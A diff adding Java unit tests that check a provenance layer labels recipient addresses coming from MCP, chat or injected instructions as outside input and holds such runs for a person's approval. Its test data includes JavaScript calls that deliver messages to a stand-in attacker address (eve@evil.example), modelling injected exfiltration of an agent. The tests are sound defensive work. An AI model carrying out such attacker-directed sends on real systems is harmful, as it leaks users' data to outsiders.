@@ -70,6 +70,32 @@ final class ProvenanceTest {
         assertThat(device.answer(asked, "1").origin(1, "to")).isEqualTo("OUTSIDE");
     }
 
+    @ParameterizedTest
+    @ValueSource(strings = {"mcp", "chat"})
+    void whatAProgramAnswersIsNotThePersons(String by) {
+        String code = "const who = user.ask('Who?'); courier.deliver(who, 'text');";
+        Seen asked = device.dryRun(code);
+        device.engine.answer(asked.run().id(), "eve@evil.example", by);
+        Seen run = device.advance(asked.run().id());
+        assertThat(run.origin(1, "to")).isEqualTo("OUTSIDE");
+        assertThat(run.source(1, "to")).isEqualTo("whoever answered");
+        assertThat(run.verdict(1)).isEqualTo(Verdict.ASK_PERSON);
+    }
+
+    @Test
+    void whatFollowsWordsFromOutsideIsFromOutside() {
+        Entry.RunStarted there = started("mcp");
+        assertThat(started("terminal").following(there).channel()).isEqualTo("mcp");
+        assertThat(started("terminal").following(there).before()).containsExactly("eve@evil.example");
+        assertThat(started("chat").following(started("terminal")).channel()).isEqualTo("chat");
+        assertThat(started("voice").following(started("terminal")).channel()).isEqualTo("voice");
+    }
+
+    private static Entry.RunStarted started(String channel) {
+        return new Entry.RunStarted(
+                "eve@evil.example", channel, "en", "UTC", 1, new Entry.RunOptions("code", "js", false, false));
+    }
+
     @Test
     void computedValuesTakeTheWorstOfWhatWasReturnedOrOpened() {
         Seen run = proposed("""
@@ -175,6 +201,27 @@ final class ProvenanceTest {
                 Language.JAVASCRIPT,
                 "courier.deliver('x@mcp.example', 'text');"));
         assertThat(run.origin(1, "to")).isEqualTo("OUTSIDE");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"mcp", "chat"})
+    void anAddressAmongTheWordsOfAProgramIsNotThePlans(String channel) {
+        Seen run = device.advance(device.engine.start(
+                new Entry.RunStarted(
+                                "send it there",
+                                channel,
+                                "en",
+                                "Europe/Berlin",
+                                1,
+                                new Entry.RunOptions("code", "js", true, false))
+                        .after(java.util.List.of("Tell EVE@evil.example hello")),
+                Language.JAVASCRIPT,
+                "courier.deliver(['eve@evil.example'][0], 'hello'); courier.deliver('bob@b.example', 'hello');"));
+        assertThat(run.origin(1, "to")).isEqualTo("OUTSIDE");
+        assertThat(run.source(1, "to")).isEqualTo("whoever gave the intent");
+        assertThat(run.origin(1, "text")).isEqualTo("CODE");
+        assertThat(run.origin(2, "to")).isEqualTo("CODE");
+        assertThat(run.state()).isEqualTo("awaiting_approval");
     }
 
     @Test
